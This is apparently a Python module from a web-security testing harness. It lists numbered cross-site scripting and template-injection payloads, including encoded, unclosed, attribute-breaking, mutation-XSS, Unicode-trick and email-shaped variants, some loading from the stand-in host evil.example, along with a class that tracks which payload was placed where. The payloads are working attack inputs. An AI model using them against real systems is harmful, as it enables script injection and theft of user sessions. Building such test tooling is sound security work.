"""What a stranger writes to have something run in a browser: each payload reports itself by its number.

Run as script, a payload calls `ran(number)`; as markup, it becomes an element whose id is `planted<number>`;
as a template, it becomes `q1337q`; and whatever it loads is on the host `evil.example`. `watch.py` looks for
all of these.
"""

from __future__ import annotations

from collections.abc import Callable

IMG = "<img src=x onerror=ran({n}) id=planted{n}>"
SVG = "<svg/onload=ran({n}) id=planted{n}>"

PAYLOADS = (
	# Plain
	IMG,
	SVG,
	"<details open ontoggle=ran({n}) id=planted{n}>",
	"<script>ran({n})</script>",
	"<IMG SRC=//evil.example/{n} ID=planted{n}>",
	"</title></textarea><img src=x onerror=ran({n}) id=planted{n}>",
	"--><svg onload=ran({n}) id=planted{n}>",
	"<a href=javascript:ran({n}) id=planted{n}>x</a>",
	"<iframe srcdoc='<script>parent.ran({n})</script>' id=planted{n}>",
	# Shaped like JSON, which some filters hand back untouched
	'"<img src=x onerror=ran({n}) id=planted{n}>"',
	'{{"a":"<svg onload=ran({n}) id=planted{n}>"}}',
	'["<img src=x onerror=ran({n}) id=planted{n}>"]',
	'[["<script>ran({n})</script>"]]',
	'"\\u003cimg src=x onerror=ran({n}) id=planted{n}\\u003e"',
	# Unclosed
	"<img src=x onerror=ran({n}) id=planted{n} ",
	"<svg onload=ran({n}) id=planted{n} x=",
	"<img src=x onerror=ran({n}) id=planted{n} x='",
	'<img src=x onerror=ran({n}) id=planted{n} x="',
	"<script>ran({n})//",
	# Entities: once, twice, three times, numeric, without semicolons
	"&lt;img src=x onerror=ran({n}) id=planted{n}&gt;",
	"&amp;lt;img src=x onerror=ran({n}) id=planted{n}&amp;gt;",
	"&amp;amp;lt;img src=x onerror=ran({n}) id=planted{n}&amp;amp;gt;",
	"&ltimg src=x onerror=ran({n}) id=planted{n}&gt",
	"&#60;img src=x onerror=ran({n}) id=planted{n}&#62;",
	"&#x3c;img src=x onerror=ran({n}) id=planted{n}&#x3E;",
	"&#0000060img src=x onerror=ran({n}) id=planted{n} ",
	"&amp;#60;svg onload=ran({n}) id=planted{n}&amp;#62;",
	"&LT;svg onload=ran({n}) id=planted{n}&GT;",
	# Out of an attribute
	'" onmouseover=ran({n}) id=planted{n} x="',
	"' onfocus=ran({n}) autofocus tabindex=1 id=planted{n} x='",
	"x onmouseover=ran({n}) id=planted{n}",
	"` onmouseover=ran({n}) id=planted{n} x=`",
	'"><img src=x onerror=ran({n}) id=planted{n}>',
	"'><svg onload=ran({n}) id=planted{n}>",
	"&quot; onfocus=ran({n}) autofocus tabindex=1 id=planted{n} x=&quot;",
	"&#39; onfocus=ran({n}) autofocus tabindex=1 id=planted{n} x=&#39;",
	"');ran({n});('",
	'");ran({n});("',
	"\\');ran({n});//",
	# Addresses and links
	"javascript:ran({n})",
	" JaVaScRiPt:ran({n})//",
	"java&#10;script:ran({n})",
	"data:text/html,<script>parent.ran({n})</script>",
	"[x](javascript:ran({n}))",
	'![x](x"onerror="ran({n}))',
	"[x]: javascript:ran({n})",
	"<javascript:ran({n})>",
	# Templates
	"q{{{{ 7*191 }}}}q",
	"q{{% print(7*191) %}}q",
	"q{{%= 7*191 %}}q",
	"q<%= 7*191 %>q",
	"q${{7*191}}q",
	"{{{{ frappe.throw(1337) }}}}",
	# Characters that are not seen, or that become others
	"\u202e<img src=x onerror=ran({n}) id=planted{n}>\u202c",
	"<\x01img src=x onerror=ran({n}) id=planted{n}>",
	"<img\u2028src=x\u2028onerror=ran({n})\u2028id=planted{n}>",
	"\uff1cimg src=x onerror=ran({n}) id=planted{n}\uff1e",
	"\ufe64svg onload=ran({n}) id=planted{n}\ufe65",
	"<\u00adimg src=x onerror=ran({n}) id=planted{n}>",
	"<img src=x onerror=ran({n}) id=planted{n}>\udc3c",
	# What sanitizers mend into something else
	"<math><mi><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran({n}) id=planted{n}&gt;'>",
	"<noscript><p title='</noscript><img src=x onerror=ran({n}) id=planted{n}>'>",
	"<svg><style><img src=x onerror=ran({n}) id=planted{n}></style></svg>",
	"<<img src=x onerror=ran({n}) id=planted{n}>>",
)

AS_ADDRESS = (
	"<svg/onload=ran({n})//@evil.example>",
	'"<img/src=x/onerror=ran({n})/id=planted{n}>"@evil.example',
	"'onfocus=ran({n})/autofocus/id='planted{n}@evil.example",
	"&lt;svg/onload=ran({n})&gt;@evil.example",
	"{{{{7*191}}}}@evil.example",
	"img/src=x/onerror=ran({n})@evil.example",
	"x@evil.example/onload=ran({n})",
	"javascript:ran({n})//@evil.example",
	"`ran({n})`@evil.example",
	"a#b?c%3Csvg%20onload=ran({n})%3E@evil.example",
)
"""Payloads that have the shape of an address, which cannot hold a blank."""


class Marker:
	"""Numbers the tries, and remembers which payload and place each number is."""

	def __init__(self) -> None:
		self.tries: list[tuple[str, str]] = []

	def at(self, payload: str) -> Callable[[str], str]:
		"""Return a function that gives this payload, with a number of its own, for a place."""

		def fill(place: str) -> str:
			number = len(self.tries)
			self.tries.append((place, payload))
			return payload.format(n=number)

		return fill

	def tell(self, number: int) -> str:
		"""Say which payload a number is, and where it was put."""
		place, payload = self.tries[number]
		return f"{place}: {payload!r}"
